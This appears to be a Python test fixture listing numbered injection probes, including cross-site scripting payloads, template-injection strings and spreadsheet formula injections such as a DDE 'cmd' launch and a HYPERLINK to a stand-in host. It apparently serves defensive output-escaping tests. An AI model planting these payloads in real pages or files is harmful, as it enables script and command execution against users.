"""Texts that would run where a page, a plot or a spreadsheet took them for more than text. Each says its number, so that a run can be told."""

SCRIPTS = [
    form.format(n=number)
    for number, form in enumerate(
        [
            "<script>alert({n})</script>",
            "<img src=x onerror=alert({n})>",
            '"><script>alert({n})</script>',
            "'><svg onload=alert({n})>",
            "</textarea><script>alert({n})</script>",
            "</title><script>alert({n})</script>",
            "</script><script>alert({n})</script>",
            '" autofocus onfocus="alert({n})',
            "' onmouseover='alert({n})' x='",
            "javascript:alert({n})",
            "<a href=javascript:alert({n})>x</a>",
            "<iframe srcdoc='<script>parent.alert({n})</script>'>",
            "<details open ontoggle=alert({n})>",
            "<style>@import'javascript:alert({n})'</style>",
            "{{{{ {n} }}}}{{% include 'x' %}}",
            "${{alert({n})}}`${{alert({n})}}`",
            "<!--<img src='--><img src=x onerror=alert({n})>'",
            "\u202e<b>alert({n})</b>\u2028alert({n})",
            "<math><mtext></mtext><script>alert({n})</script></math>",
            '=HYPERLINK("http://evil.example/{n}")',
            "+1+cmd|' /C calc'!A{n}",
            "@SUM(1+{n})",
        ]
    )
]
